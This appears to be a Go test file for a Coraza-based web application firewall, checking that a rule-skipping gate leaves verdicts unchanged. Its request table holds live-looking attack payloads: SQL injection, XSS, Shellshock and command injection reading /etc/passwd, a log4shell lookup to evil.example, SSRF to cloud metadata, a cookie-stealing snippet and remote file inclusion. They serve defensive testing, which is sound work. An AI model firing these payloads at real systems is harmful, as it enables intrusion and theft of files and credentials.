package waf

import (
	"context"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/types/variables"
	"github.com/sekisho/sekisho/rules"
	"github.com/sekisho/sekisho/waf/waftest"
)

func TestGateVars(t *testing.T) {
	v := func(names ...string) []variables.RuleVariable {
		var out []variables.RuleVariable
		for _, n := range names {
			rv, err := variables.Parse(n)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, rv)
		}
		return out
	}
	tests := []struct {
		list string
		want []variables.RuleVariable
		ok   bool
	}{
		{"ARGS", v("ARGS"), true},
		{"REQUEST_COOKIES|!REQUEST_COOKIES:/__utm/|REQUEST_COOKIES_NAMES|ARGS_NAMES|ARGS|XML:/*", v("REQUEST_COOKIES", "REQUEST_COOKIES_NAMES", "ARGS_NAMES", "ARGS", "XML"), true},
		{`ARGS_NAMES|!ARGS_NAMES:/^(?:a|b)\/c$/|ARGS`, v("ARGS_NAMES", "ARGS"), true},
		{"XML://@*|FILES", v("XML", "FILES"), true},
		{"REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:'x|y'|ARGS", v("REQUEST_HEADERS", "REQUEST_HEADERS", "ARGS"), true},
		{`!REQUEST_COOKIES:/^_ga(?:_\w+)?$/`, nil, true},
		{"&ARGS", nil, false},
		{"ARGS|TX:foo", nil, false},
		{"MATCHED_VARS", nil, false},
		{"ARGS:/unclosed", nil, false},
	}
	for _, tt := range tests {
		got, _, ok := gateVars(tt.list)
		if ok != tt.ok || ok && !slices.Equal(got, tt.want) {
			t.Errorf("gateVars(%q) = %v, %v; want %v, %v", tt.list, got, ok, tt.want, tt.ok)
		}
	}
}

// gateRun inspects r and returns the verdict and how many rules the gate
// removed for it.
func gateRun(t *testing.T, e *Engine, r *http.Request) (*Verdict, int) {
	t.Helper()
	tx := e.NewTx(context.Background(), "gate")
	defer tx.Close()
	v := tx.InspectRequest(r, r.URL.RequestURI(), Conn{ClientIP: "192.0.2.10", ClientPort: 40000, ServerIP: "127.0.0.1", ServerPort: 443})
	return v, memoOf(tx.tx).gate.removed
}

// TestGate_SameVerdicts compares, request by request, the verdict of a
// policy with the gate and of the same policy without it (rule 200032
// off), at paranoia level 1 and 4, on attacks in every channel, some of
// which only a rule's transformations reveal. TestCRSEquivalence does the
// same on CRS's whole regression corpus, against stock Coraza.
func TestGate_SameVerdicts(t *testing.T) {
	get := func(target string, hdr ...string) *http.Request {
		r, _ := http.NewRequest("GET", "http://shop.example.com"+target, nil)
		for i := 0; i+1 < len(hdr); i += 2 {
			r.Header.Set(hdr[i], hdr[i+1])
		}
		return r
	}
	post := func(ctype, body string) *http.Request {
		r, _ := http.NewRequest("POST", "http://shop.example.com/app/api", strings.NewReader(body))
		r.Header.Set("Content-Type", ctype)
		return r
	}
	requests := map[string]func() *http.Request{
		"benign GET":            func() *http.Request { return waftest.BrowserGET(1) },
		"benign form":           func() *http.Request { return waftest.FormPOST4K(1) },
		"sqli query":            func() *http.Request { return get("/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--") },
		"sqli, comments":        func() *http.Request { return get("/s?q=1%27/**/UnIoN/**/SeLeCt/**/1,2--") },
		"xss double encoded":    func() *http.Request { return get("/s?q=%253Cscript%253Ealert(1)%253C/script%253E") },
		"xss entities":          func() *http.Request { return get("/s?q=%26lt;img%20src=x%20onerror=alert(1)%26gt;") },
		"xss in cookie":         func() *http.Request { return get("/", "Cookie", "theme=<svg/onload=alert(1)>") },
		"shell in user agent":   func() *http.Request { return get("/", "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'") },
		"shell with quotes":     func() *http.Request { return get("/s?f=;c''a''t%20/e''tc/pa''sswd") },
		"traversal in referer":  func() *http.Request { return get("/", "Referer", "https://a.example/?f=../../../../etc/passwd") },
		"traversal in path":     func() *http.Request { return get("/app/..%2f..%2f..%2fetc/passwd") },
		"log4shell in header":   func() *http.Request { return get("/", "X-Api-Version", "${jndi:ldap://evil.example/a}") },
		"php in arg name":       func() *http.Request { return get("/s?%3C%3Fphp%20system($_GET[1]);=1") },
		"json shell":            func() *http.Request { return post("application/json", `{"a":{"b":["x","; cat /etc/passwd"]}}`) },
		"json sqli unicode esc": func() *http.Request { return post("application/json", `{"q":"1\u0027 or \u00271\u0027=\u00271"}`) },
		"xml attribute xss": func() *http.Request {
			return post("application/xml", `<a b="&lt;script&gt;alert(1)&lt;/script&gt;">x</a>`)
		},
		"xml text sqli": func() *http.Request { return post("text/xml", `<a>1' or sleep(5)#</a>`) },
		"form ssti":     func() *http.Request { return post("application/x-www-form-urlencoded", "name={{7*7}}&t=${7*7}") },
		"form java": func() *http.Request {
			return post("application/x-www-form-urlencoded", "x=java.lang.Runtime.getRuntime().exec(%22id%22)")
		},
		"nosql":        func() *http.Request { return get("/s?user[$ne]=1&pass[$gt]=") },
		"base64 shell": func() *http.Request { return get("/s?d=" + "Y2F0IC9ldGMvcGFzc3dk") },
		// @pm and @pmFromFile rules: 934110, 941180, 932160.
		"ssrf to metadata": func() *http.Request { return get("/s?u=http://169.254.169.254/latest/meta-data/") },
		"document.cookie":  func() *http.Request { return get("/s?q=x%22;new%20Image().src=document.cookie") },
		"unix shell path":  func() *http.Request { return post("application/json", `{"cmd":"/bin/bash -i"}`) },
		// 931100 reads cookies only through sekisho's channels (a SecRuleUpdateTargetById).
		"rfi in cookie": func() *http.Request { return get("/", "Cookie", "u=http://192.0.2.1/shell.txt") },
	}
	for _, pl := range []int{1, 4} {
		on, err := New(Config{Name: "gate", ParanoiaLevel: pl}, rules.FS())
		if err != nil {
			t.Fatal(err)
		}
		off, err := New(Config{Name: "nogate", ParanoiaLevel: pl, RulesOff: []string{"200032"}}, rules.FS())
		if err != nil {
			t.Fatal(err)
		}
		blocked := 0
		for name, req := range requests {
			got, removed := gateRun(t, on, req())
			want, none := gateRun(t, off, req())
			if none != 0 {
				t.Fatalf("PL%d %s: the gate ran with rule 200032 off", pl, name)
			}
			if got.Action != want.Action || got.Score != want.Score || !slices.Equal(got.Rules, want.Rules) {
				t.Errorf("PL%d %s: with the gate %v score %d rules %v; without %v score %d rules %v",
					pl, name, got.Action, got.Score, got.Rules, want.Action, want.Score, want.Rules)
			}
			if want.Blocked() {
				blocked++
			}
			// At PL1 the gate holds the ~95 phase-2 rules of PL1 (those
			// above the policy's level are left to CRS's own skips).
			if name == "benign GET" && pl == 1 && removed < 80 {
				t.Errorf("PL1 benign GET: the gate removed %d rules, want at least 80", removed)
			}
		}
		if blocked < len(requests)-4 {
			t.Errorf("PL%d: only %d of %d requests blocked: the attacks do not test the gate", pl, blocked, len(requests))
		}
	}
}

// TestGate_TargetUpdates: a SecRuleUpdateTargetById that gives a rule a
// collection the gate reads adds it to what the gate reads for the rule;
// one it cannot read keeps the rule; one by tag turns the gate off.
func TestGate_TargetUpdates(t *testing.T) {
	f := &fuser{}
	f.noteUpdate(`SecRuleUpdateTargetById 941100 "XML://@*|FILES"`)
	f.noteUpdate(`SecRuleUpdateTargetById 942100 "!REQUEST_COOKIES:/^_ga(?:_\w+)?$/"`)
	f.noteUpdate(`SecRuleUpdateTargetById 932100-932110 "TX:foo"`)
	if len(f.gateExtra) != 1 || f.gateExtra[0].ids != [2]int{941100, 941100} || len(f.gateExtra[0].vars) != 2 {
		t.Errorf("gateExtra = %+v", f.gateExtra)
	}
	if !f.gateKeep.has(932105) || f.gateKeep.has(942100) || f.gateOff {
		t.Errorf("gateKeep = %v, gateOff = %v", f.gateKeep, f.gateOff)
	}
	f.noteUpdate(`SecRuleUpdateTargetByTag "attack-sqli" "REQUEST_HEADERS"`)
	if !f.gateOff {
		t.Error("an update by tag that adds a collection must turn the gate off")
	}
}
